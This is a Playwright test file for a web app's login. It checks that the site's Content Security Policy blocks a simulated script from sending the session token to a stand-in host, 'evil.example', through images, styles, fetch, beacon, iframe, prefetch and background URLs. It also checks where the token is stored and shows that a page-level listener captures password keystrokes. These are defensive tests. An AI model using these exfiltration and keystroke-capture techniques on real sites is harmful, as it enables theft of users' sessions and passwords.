import { expect, test } from '../../support/fixtures';
import { screenOf, signIn } from '../../support/steps';

/** Where a section that means harm would send what it has read. */
const ELSEWHERE = 'https://evil.example';

test('what a section has read leaves the page by no picture, style, frame, call or beacon', async ({
  page,
  expectFaults,
}) => {
  expectFaults(/Content Security Policy|violates|Refused|ERR_BLOCKED|Failed to (?:load|fetch)/i);
  const asked: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 200, body: '' });
  });
  await page.goto('/m/login');
  await signIn(page, 'demo_member');
  await expect(screenOf(page, 'home')).toBeVisible();
  const ways = await page.evaluate(async (place) => {
    const refused: string[] = [];
    const frameRefused = new Promise<void>((done) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        refused.push(effectiveDirective);
        if (effectiveDirective === 'frame-src') done();
      });
    });
    const loot = encodeURIComponent(sessionStorage.getItem('token') ?? '');
    const settled = (element: HTMLElement): Promise<void> =>
      new Promise((done) => {
        element.onload = element.onerror = () => done();
        document.body.append(element);
      });
    const picture = Object.assign(new Image(), { src: `${place}/picture?${loot}` });
    const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${place}/style?${loot}` });
    await Promise.all([settled(picture), settled(style)]);
    await fetch(`${place}/call?${loot}`, { mode: 'no-cors' }).catch(() => undefined);
    navigator.sendBeacon(`${place}/beacon`, loot);
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: `${place}/frame?${loot}` }),
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${place}/prefetch?${loot}` }),
    );
    document.body.style.backgroundImage = `url("${place}/background?${loot}")`;
    // Whatever was asked for before this picture has had its answer once this one has.
    await settled(Object.assign(new Image(), { src: '/images/default.png?last' }));
    // A frame is refused by the browser's own process, which tells of it when it comes to it.
    await frameRefused;
    return [...new Set(refused)];
  }, ELSEWHERE);
  expect(asked).toEqual([]);
  expect(ways).toEqual(expect.arrayContaining(['img-src', 'connect-src', 'frame-src']));
});

test('the token lies in nothing that the page leaves open beside sessionStorage', async ({ page }) => {
  await page.goto('/m/login');
  await signIn(page, 'demo_member');
  await page.reload();
  await expect(screenOf(page, 'home')).toBeVisible();
  const found = await page.evaluate(async () => {
    const token = sessionStorage.getItem('token') ?? 'none';
    const ways: string[] = [];
    const seen = new Set<unknown>();
    const look = async (value: unknown, way: string): Promise<void> => {
      if (typeof value === 'string' && value.includes(token)) ways.push(way);
      if (typeof value !== 'object' || value === null || seen.has(value) || value instanceof Node) return;
      seen.add(value);
      if (value instanceof Promise) await look(await value.catch(() => null), `${way}()`);
      for (const [name, inner] of Object.entries(value)) {
        await look(name, `${way} key`);
        await look(inner, `${way}.${name}`);
      }
    };
    // What a page has of its own, beside what every window has.
    const frame = document.body.appendChild(document.createElement('iframe'));
    const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow ?? {}));
    frame.remove();
    const own = Object.getOwnPropertyNames(window).filter((name) => !usual.has(name));
    for (const name of own) await look(Reflect.get(window, name), name);
    await look({ ...localStorage }, 'localStorage');
    return { own: own.length, ways };
  });
  expect(found.own).toBeGreaterThan(0);
  expect(found.ways).toEqual([]);
});

test('keys typed into a closed shadow root are heard by the page: why password fields are plain ones', async ({
  page,
}) => {
  await page.goto('/m/login');
  await expect(screenOf(page, 'login')).toBeVisible();
  await page.evaluate(() => {
    const heard: string[] = [];
    Object.assign(window, { heard });
    window.addEventListener('keydown', ({ key }) => heard.push(key), true);
    const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
    const field = root.appendChild(Object.assign(document.createElement('input'), { type: 'password' }));
    field.focus();
  });
  await page.keyboard.type('Demo1');
  expect(await page.evaluate(() => (window as unknown as { heard: string[] }).heard.join(''))).toBe('Demo1');
});
